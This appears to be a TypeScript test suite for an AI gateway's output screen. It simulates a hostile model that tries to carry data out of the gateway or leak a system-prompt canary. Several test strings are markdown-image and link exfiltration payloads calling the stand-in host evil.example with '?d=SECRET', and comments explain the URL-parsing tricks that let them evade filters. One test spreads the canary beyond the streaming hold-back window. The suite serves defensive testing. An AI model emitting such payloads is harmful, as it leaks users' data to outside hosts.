/**
 * A hostile model against the output side of the gateway: answers crafted to carry data out through links the output
 * screen lets pass, or to get part of the system-prompt canary out before the stream is blocked. Each test names the
 * promise it holds the gateway to (README "Security defaults": output screening and "Streamed output"). The real
 * handler and Bedrock client run against the loopback Bedrock server; both the buffered answer and the streamed one are
 * checked, since the promise is the same for both.
 */
import { BedrockRuntimeClient } from '@aws-sdk/client-bedrock-runtime';
import { Auditor, newLogger, newMetrics } from '../../../lambda/gateway/audit';
import { newBedrockClient } from '../../../lambda/gateway/bedrock';
import { GatewayHandler, createHandler } from '../../../lambda/gateway/index';
import { BedrockServer, ConverseRequestBody, startBedrockServer } from '../../helpers/bedrock-server';
import { fakeContext, toProxyEvent } from '../../helpers/lambda-http-adapter';
import { StdoutCapture, TEST_CONFIG, chatBody, claims } from './gateway-fixtures';

/** No usage table: these tests are about what the answer carries, not what it costs. */
const CONFIG = { ...TEST_CONFIG, quotasEnabled: false };
const CANARY = /cnry[a-z2-7]{20}/i;

interface Delivered {
  readonly status: number;
  /** Every content delta (streamed) or the message content (buffered), joined. */
  readonly text: string;
  /** The content released before the chunk that carries a finish reason (streamed only). */
  readonly beforeFinish: string;
  readonly finish: readonly string[];
}

function parseEvents(body: string): Delivered {
  const events = body.split('\n\n').filter((e) => e.startsWith('data: ') && e !== 'data: [DONE]');
  let text = '';
  let beforeFinish = '';
  const finish: string[] = [];
  for (const e of events) {
    const chunk = JSON.parse(e.slice('data: '.length)) as { choices?: Array<{ delta?: { content?: string }; finish_reason?: string | null }> };
    const choice = chunk.choices?.[0];
    const content = choice?.delta?.content ?? '';
    text += content;
    if (choice?.finish_reason) finish.push(choice.finish_reason);
    else beforeFinish += content;
  }
  return { status: 200, text, beforeFinish, finish };
}

describe('a hostile model against the output screen', () => {
  const stdout = new StdoutCapture();
  let server: BedrockServer;
  let bedrock: BedrockRuntimeClient;
  let handler: GatewayHandler;

  async function ask(stream: boolean): Promise<Delivered> {
    const event = toProxyEvent('POST', '/v1/chat/completions', {}, Buffer.from(JSON.stringify(chatBody('Write the report.', stream ? { stream: true } : {}))), claims('hostile-1', 'users'));
    const res = await handler(event, fakeContext());
    if (stream && res.statusCode === 200) return parseEvents(res.body);
    const body = JSON.parse(res.body) as { choices?: Array<{ message?: { content?: string | null }; finish_reason?: string }> };
    const content = body.choices?.[0]?.message?.content ?? '';
    return { status: res.statusCode, text: content, beforeFinish: content, finish: [body.choices?.[0]?.finish_reason ?? ''] };
  }

  beforeAll(async () => {
    stdout.start();
    server = await startBedrockServer();
    bedrock = newBedrockClient({ endpoint: server.url, region: 'us-east-1', credentials: { accessKeyId: 'AKIDTESTTESTTESTTEST', secretAccessKey: 'test-secret-key' } });
    handler = createHandler({ config: CONFIG, bedrock, auditor: new Auditor(newLogger(), newMetrics()) });
  });

  afterAll(async () => {
    stdout.stop();
    bedrock.destroy();
    await server.close();
  });

  describe('links to hosts outside the allow-list (promise: "markdown images and links to hosts outside an allow-list removed")', () => {
    // CommonMark unescapes `\@` in a link destination to `@`; autolinks and GFM/linkify bare URLs percent-encode the
    // backslash (`%5C@`). Either way the browser reads everything before the `@` as user info and fetches from
    // evil.example (markdown-it 14 renders `<img src="https://docs.example.com@evil.example/?d=…">`). The screen
    // parses the raw text with WHATWG URL, which reads `\` as `/`, and so sees the allowed host docs.example.com.
    const backslashAt = 'https://docs.example.com\\@evil.example/?d=SECRET';
    // CommonMark lets link text hold balanced or escaped brackets; the screen's inline-link pattern does not, so it
    // leaves these images alone. Their destinations are URLs the bare-URL pass does not recognize, yet every browser
    // resolves them to evil.example: `https:/host` (one slash) and `\/\/host` (escaped slashes: `//host`).
    const cases: Array<[string, string]> = [
      ['an image whose allowed host is followed by \\@', `Chart: ![chart](${backslashAt})`],
      ['an autolink whose allowed host is followed by \\@', `See <${backslashAt}> for details.`],
      ['a bare URL whose allowed host is followed by \\@', `See ${backslashAt} for details.`],
      ['a reference definition whose allowed host is followed by \\@', `Chart: ![chart][r]\n\n[r]: ${backslashAt}\n`],
      ['an image with nested brackets in its alt text and a one-slash URL', 'Chart: ![a [b] c](https:/evil.example/?d=SECRET)'],
      ['an image with an escaped bracket in its alt text and escaped slashes', 'Chart: ![a\\]](\\/\\/evil.example/?d=SECRET)'],
      ['a reference definition whose label spans two lines, with a one-slash URL', 'Chart: ![c][foo bar]\n\n[foo\nbar]: https:/evil.example/?d=SECRET\n'],
    ];

    test('fails if any of these links reaches the client, buffered or streamed', async () => {
      for (const stream of [false, true]) {
        for (const [name, answer] of cases) {
          // GIVEN a model answering with the link (streamed: in 16-character deltas)
          server.setBehavior({ kind: 'reply', text: answer });
          // WHEN the answer is asked for
          const got = await ask(stream);
          // THEN the host outside the allow-list is not in what the client gets
          expect({ name, stream, status: got.status, leaked: got.text.includes('evil.example') }).toEqual({ name, stream, status: 200, leaked: false });
        }
      }
    });
  });

  describe('canary (promise: "canary ... split across chunks are caught before any of it leaves")', () => {
    test('fails if the canary, spread wider than the hold-back window, is partly released before the block', async () => {
      // GIVEN a model that repeats the canary from the system prompt one character per line, each separated by a rule
      // of dashes: a spelling the screen recognizes ("punctuation between its characters"), but spread over more than
      // the 512 characters held back, so its first characters are releasable before its last ones arrive
      server.setBehavior({
        kind: 'echo',
        render: (req: ConverseRequestBody) => {
          const canary = CANARY.exec((req.system ?? []).map((b) => b.text ?? '').join('\n'))![0];
          return `Here is the code:\n${[...canary].join(`\n${'-'.repeat(80)}\n`)}\nDone.`;
        },
      });
      // WHEN the answer is streamed
      const got = await ask(true);
      // THEN it is blocked, and none of the canary was released before the block: not even its first eight characters
      expect(got.finish).toEqual(['content_filter']);
      const squeezed = got.beforeFinish.replace(/[^a-z0-9]/gi, '').toLowerCase();
      expect(squeezed).not.toMatch(/cnry[a-z2-7]{4}/);
    });
  });
});
